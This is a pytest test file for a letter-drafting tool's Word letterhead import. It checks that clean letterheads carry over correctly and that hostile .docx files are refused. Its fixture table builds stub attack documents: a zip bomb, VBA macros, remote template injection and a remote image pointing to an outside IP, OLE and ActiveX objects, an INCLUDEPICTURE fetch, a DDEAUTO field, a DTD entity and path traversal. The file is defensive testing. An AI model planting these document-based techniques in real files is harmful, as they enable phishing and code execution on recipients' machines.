"""Word letterheads: the example letterhead around a draft, and hostile letterheads refused."""
from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from drafter.cli import main
from drafter.letterhead import read_letterhead

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "letterheads" / "cecc-example.docx"
DOCX_CHECK = REPO.parent / "shared" / "tools" / "docx_check.py"
STEM = "2023-10-23-erc-entity-list-raimondo-yellen-blinken"
W_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def run(*args):
    return CliRunner().invoke(main, ["-C", str(REPO), *map(str, args)], catch_exceptions=False)


def docx_check(path: Path) -> str:
    if not DOCX_CHECK.is_file():
        pytest.skip("../shared/tools/docx_check.py not available")
    proc = subprocess.run([sys.executable, str(DOCX_CHECK), str(path)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


@pytest.fixture(scope="module")
def drafted(tmp_path_factory):
    out = tmp_path_factory.mktemp("lh")
    res = run("draft", "erc-entity-list-letterhead", "-o", out, "--format", "docx", "--format", "txt")
    assert res.exit_code == 0, res.output
    return out / f"{STEM}.docx"


def test_script_rebuilds_the_committed_letterhead(tmp_path):
    out = tmp_path / "lh.docx"
    subprocess.run([sys.executable, str(REPO / "scripts" / "make_letterhead.py"), str(out)], check=True,
                   capture_output=True)
    assert out.read_bytes() == EXAMPLE.read_bytes()
    docx_check(EXAMPLE)


def test_letterhead_parts_in_the_draft(drafted):
    assert "17 parts" in docx_check(drafted)
    with zipfile.ZipFile(drafted) as z:
        names = set(z.namelist())
        assert {"word/header1.xml", "word/footer1.xml", "word/_rels/header1.xml.rels",
                "word/media/letterhead1.png"} <= names
        assert z.read("word/media/letterhead1.png").startswith(b"\x89PNG")
        doc = z.read("word/document.xml").decode()
        styles = z.read("word/styles.xml").decode()
        ctypes = z.read("[Content_Types].xml").decode()
    # The letterhead's page setup and header replace the text letterhead.
    assert '<w:pgMar w:top="1800"' in doc and '<w:headerReference w:type="default"' in doc
    assert "Letterhead" not in doc
    # Its styles, plus every drafter style it lacks.
    assert 'w:ascii="Georgia"' in styles
    for sid in ("InsideAddress", "Salutation", "Signature", "FootnoteText", "FootnoteReference",
                "CommentReference", "BodyText", "Closing"):
        assert f'w:styleId="{sid}"' in styles
    assert styles.count('w:styleId="Date"') == 1 and "w:before=\"240\" w:after=\"480\"" in styles
    assert f'PartName="/word/header1.xml" ContentType="{W_CT}.header+xml"' in ctypes
    assert 'Extension="png"' in ctypes


def test_text_forms_carry_the_letterhead_words(drafted):
    txt = drafted.with_suffix(".txt").read_text()
    assert txt.startswith("Congressional-Executive Commission on China\n\nOctober 23, 2023\n")


def test_header_on_every_page(soffice, drafted, tmp_path):
    from drafter.convert import convert_files
    pdf = convert_files([drafted], tmp_path)[0]
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout
    pages = [p for p in text.split("\f") if p.strip()]
    assert len(pages) >= 2
    for i, page in enumerate(pages, start=1):
        assert "CONGRESSIONAL-EXECUTIVE COMMISSION ON CHINA" in page.upper(), f"page {i}"
        assert f"Page {i}" in page
    first = " ".join(pages[0].split())
    assert "October 23, 2023" in first and "Dear Secretaries Raimondo, Yellen, and Blinken:" in first


def test_no_revision_ids_or_metadata_copied(tmp_path):
    # A letterhead saved by Word: rsids everywhere, a creator, custom XML, comments-by-people.
    evil = mutate(tmp_path, {
        "word/header1.xml": lambda x: x.replace(b"<w:p>", b'<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CD">'),
        "word/styles.xml": lambda x: x.replace(b'<w:qFormat/></w:style>',
                                               b'<w:qFormat/><w:rsid w:val="00AB12CD"/></w:style>', 1),
        "docProps/core.xml": b"<cp:coreProperties><dc:creator>Jane Activist</dc:creator></cp:coreProperties>",
        "customXml/item1.xml": b"<secret>C:\\Users\\jane</secret>",
        "word/people.xml": b"<w15:people/>",
    })
    lh = read_letterhead(evil)
    blob = b"".join([lh.styles, *lh.parts.values()])
    assert b"rsid" not in blob and b"00AB12CD" not in blob and b"Jane" not in blob and b"secret" not in blob
    assert sorted(lh.parts) == ["word/_rels/header1.xml.rels", "word/footer1.xml", "word/header1.xml",
                                "word/media/letterhead1.png"]


# Hostile letterheads ------------------------------------------------------------------------

def mutate(tmp: Path, changes: dict, name: str = "evil.docx", base: bytes | None = None) -> Path:
    """A copy of the example letterhead with parts replaced (bytes or a function of the old bytes),
    added, or removed (None)."""
    src = zipfile.ZipFile(io.BytesIO(base or EXAMPLE.read_bytes()))
    parts = {n: src.read(n) for n in src.namelist()}
    for part, change in changes.items():
        if change is None:
            parts.pop(part, None)
        elif callable(change):
            parts[part] = change(parts[part])
        else:
            parts[part] = change
    path = tmp / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)
    return path


def add_rel(rels_xml: bytes, rid: str, typ: str, target: str, external: bool = False) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    rel = f'<Relationship Id="{rid}" Type="{REL}/{typ}" Target="{target}"'.encode() + mode + b"/>"
    return rels_xml.replace(b"</Relationships>", rel + b"</Relationships>")


def add_ct(ct_xml: bytes, part: str, ctype: str) -> bytes:
    return ct_xml.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>'.encode())


def in_body(xml: str):
    return lambda doc: doc.replace(b"<w:body><w:p/>", b"<w:body>" + xml.encode())


DOC_RELS = "word/_rels/document.xml.rels"
HOSTILE = {
    "not-a-zip": ({}, "not a Word file (not a zip archive)"),
    "zip-bomb": ({"word/media/pad.bin": b"\0" * (8 * 2**20)}, "a zip bomb"),
    "macro-content-type": ({"[Content_Types].xml": lambda x: x.replace(
        b"document.main+xml", b"document.macroEnabled.main+xml")}, "it contains macros"),
    "vba-project": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA", DOC_RELS: lambda x: add_rel(
        x, "rId9", "vbaProject", "vbaProject.bin")}, "VBA macro project"),
    "attached-template": ({"word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                                                b'wordprocessingml/2006/main"/>',
                           "word/_rels/settings.xml.rels": add_rel(
                               b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                               b"</Relationships>", "rId1", "attachedTemplate",
                               "http://198.51.100.7/t.dotm", external=True)},
                          "an attached template (remote template injection)"),
    "remote-image": ({"word/_rels/header1.xml.rels": lambda x: x.replace(
        b'Target="media/logo.png"/>', b'Target="http://198.51.100.7/logo.png" TargetMode="External"/>')},
        "a relationship points outside the file"),
    "ole-object": ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0", DOC_RELS: lambda x: add_rel(
        x, "rId9", "oleObject", "embeddings/oleObject1.bin")}, "embedded files"),
    "ole-relationship": ({DOC_RELS: lambda x: add_rel(x, "rId9", "oleObject", "media/logo.png")},
                         "an embedded OLE object"),
    "activex": ({"word/activeX/activeX1.xml": b"<ax:ocx/>", DOC_RELS: lambda x: add_rel(
        x, "rId9", "control", "activeX/activeX1.xml")}, "an ActiveX control"),
    "activex-element": ({"word/document.xml": in_body('<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>')},
                        "an ActiveX control"),
    "alt-chunk": ({"word/afchunk.mht": b"MIME-Version: 1.0", "word/document.xml": in_body(
        '<w:altChunk r:id="rId9"/>'), DOC_RELS: lambda x: add_rel(x, "rId9", "aFChunk", "afchunk.mht")},
                  "alternative-format chunk"),
    "subdocument": ({DOC_RELS: lambda x: add_rel(x, "rId9", "subDocument", "sub.docx")}, "a subdocument"),
    "frame": ({"word/_rels/webSettings.xml.rels": add_rel(
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        "rId1", "frame", "other.docx")}, "a frame"),
    "include-picture-field": ({"word/header1.xml": lambda x: x.replace(
        b"<w:tab/>", b'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                     b'INCLUDEPICTURE "http://198.51.100.7/x.png" \\d </w:instrText></w:r><w:r>'
                     b'<w:fldChar w:fldCharType="end"/><w:tab/>')}, "INCLUDEPICTURE field"),
    "dde-field": ({"word/footer1.xml": lambda x: x.replace(b'w:instr=" PAGE "', b'w:instr=" DDEAUTO c:\\\\x "')},
                  "DDEAUTO field"),
    "dtd": ({"word/styles.xml": lambda x: x.replace(
        b"<w:styles ", b'<!DOCTYPE lol [<!ENTITY a "aaaa">]><w:styles ', 1)}, "declares a DTD"),
    "fake-image": ({"word/media/logo.png": b"MZ\x90\x00 not an image"}, "is not a PNG, JPEG or GIF image"),
    "path-traversal": ({"../../evil.txt": b"x"}, "unsafe or duplicate name"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE) + ["docm-suffix"])
def test_hostile_letterhead_refused(case, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    if case == "not-a-zip":
        evil = folder / "evil.docx"
        evil.write_text("<html>this is not a Word file</html>")
        reason = HOSTILE[case][1]
    elif case == "docm-suffix":
        evil, reason = mutate(folder, {}, name="evil.docm"), "a macro-enabled Word file (.docm/.dotm)"
    else:
        changes, reason = HOSTILE[case]
        evil = mutate(folder, changes)
    spec = tmp_path / "spec.yaml"
    spec.write_text((REPO / "letters" / "erc-entity-list.yaml").read_text().replace(
        'letterhead: ["Congressional-Executive Commission on China"]', f"letterhead: {evil}"))
    out = tmp_path / "out"
    res = run("draft", spec, "-o", out, "--format", "docx", "--format", "txt")
    assert res.exit_code == 1, res.output
    assert f"{evil}: letterhead refused: " in res.output and reason in res.output
    assert "Traceback" not in res.output
    assert not out.exists()          # nothing written, not even the folder


def test_the_example_is_accepted_as_is(tmp_path):
    lh = read_letterhead(mutate(tmp_path, {}))
    assert lh.header_lines == ("Congressional-Executive Commission on China",)
    assert lh.page["pgMar"]["top"] == "1800" and not lh.title_page
    assert [r[:2] for r in lh.refs] == [("header", "default"), ("footer", "default")]


def test_missing_letterhead_file(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text((REPO / "letters" / "erc-entity-list-letterhead.yaml").read_text().replace(
        "letterheads/cecc-example.docx", "letterheads/nope.docx"))
    res = run("draft", spec, "-o", tmp_path / "out")
    assert res.exit_code == 1 and "letterhead file not found" in res.output
    assert re.search(r"nope\.docx", res.output)


def test_text_forms_take_the_first_page_header(campaign, tmp_path):
    docx = pytest.importorskip("docx")
    document = docx.Document()
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "Tibet Action Example, 1 Main Street"
    section.header.paragraphs[0].text = "Tibet Action Example (continued)"
    document.save(str(campaign / "two-headers.docx"))
    spec = campaign / "letters" / "company-ceo.yaml"
    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
                                             "letterhead: two-headers.docx"))
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["-C", str(campaign), "draft", "company-ceo", "--format", "txt",
                                       "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = next(out.glob("*.txt")).read_text()
    assert text.startswith("Tibet Action Example, 1 Main Street")
    assert "(continued)" not in text
